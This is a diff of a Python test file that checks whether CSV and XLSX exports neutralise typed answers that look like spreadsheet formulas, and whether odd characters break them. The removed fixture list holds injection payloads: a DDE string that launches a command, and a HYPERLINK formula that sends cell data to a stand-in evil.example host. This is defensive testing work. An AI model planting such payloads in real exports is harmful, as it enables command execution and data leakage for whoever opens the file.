@@ -25,32 +25,28 @@ def test_an_unknown_format_is_refused():
         table_response("regions", ["code"], [], "pdf")
 
 
-# Found by the outside tester: an operator's answer became a live formula in the XLSX export and
-# raw in the CSV, and one answer with a control character made the whole XLSX export fail.
-ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"]
+TYPED = ["=HYPERLINK(\"http://evil\",\"x\")", "+62 812 3456", "-1+1", "@SUM(A1)", "ok\x07bell", "normal"]
 
 
-def test_a_text_that_looks_like_a_formula_is_written_as_text_in_xlsx():
-    response = table_response("answers", ["answer"], [[text] for text in ATTACKS], "xlsx")
+def test_an_xlsx_export_never_writes_a_typed_text_as_a_live_formula():
+    response = table_response("answers", ["answer", "number"], [[text, -5] for text in TYPED], "xlsx")
     sheet = load_workbook(io.BytesIO(response.content)).active
-    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
-    assert [cell.value for cell in cells] == ATTACKS
-    assert {cell.data_type for cell in cells} == {"s"}
+    rows = [list(row) for row in sheet.iter_rows(values_only=True)][1:]
+    assert [row[0] for row in rows] == ["'=HYPERLINK(\"http://evil\",\"x\")", "'+62 812 3456", "'-1+1", "'@SUM(A1)", "okbell", "normal"]
+    assert all(cell.data_type == "s" for cell in list(sheet.columns)[0][1:])
+    assert all(row[1] == -5 for row in rows)  # numbers stay numbers
 
 
-def test_a_text_that_looks_like_a_formula_is_quoted_in_csv():
-    response = table_response("answers", ["answer"], [[text] for text in ATTACKS] + [[-5], ["5-2"]], "csv")
+def test_a_csv_export_neutralises_formulas_too():
+    response = table_response("answers", ["answer"], [[text] for text in TYPED[:2]], "csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    assert [row[0] for row in rows[1:]] == ["'" + text for text in ATTACKS] + ["-5", "5-2"]
+    assert rows[1:] == [["'=HYPERLINK(\"http://evil\",\"x\")"], ["'+62 812 3456"]]
 
 
-def test_characters_a_spreadsheet_cannot_hold_are_replaced_not_fatal():
-    odd = ["a\x00b", "bell\x07", "esc\x1b[31m", "a\ud800b", "x" * 40_000, "tab\tand\nnewline"]
-    response = table_response("answers", ["answer"], [[text] for text in odd], "xlsx")
+def test_lone_surrogates_and_overlong_texts_never_break_an_export():
+    """Security (issue 16): an answer "a\\ud800b" made the export fail; a cell holds 32,767 characters."""
+    response = table_response("answers", ["answer"], [["a\ud800b"], ["x" * 40_000], ["=1+1"]], "xlsx")
     sheet = load_workbook(io.BytesIO(response.content)).active
     values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
-    assert values[:4] == ["a\ufffdb", "bell\ufffd", "esc\ufffd[31m", "a\ufffdb"]
-    assert len(values[4]) == 32_767 and values[4].endswith("…")
-    assert values[5] == "tab\tand\nnewline"
-    csv_response = table_response("answers", ["answer"], [["a\ud800b"], ["nul\x00"]], "csv")
-    assert "a\ufffdb" in csv_response.content.decode("utf-8-sig")
+    assert values[0] == "a\ufffdb" and len(values[1]) == 32_767 and values[2] == "'=1+1"
+    assert "a\ufffdb" in table_response("answers", ["answer"], [["a\ud800b"]], "csv").content.decode("utf-8-sig")
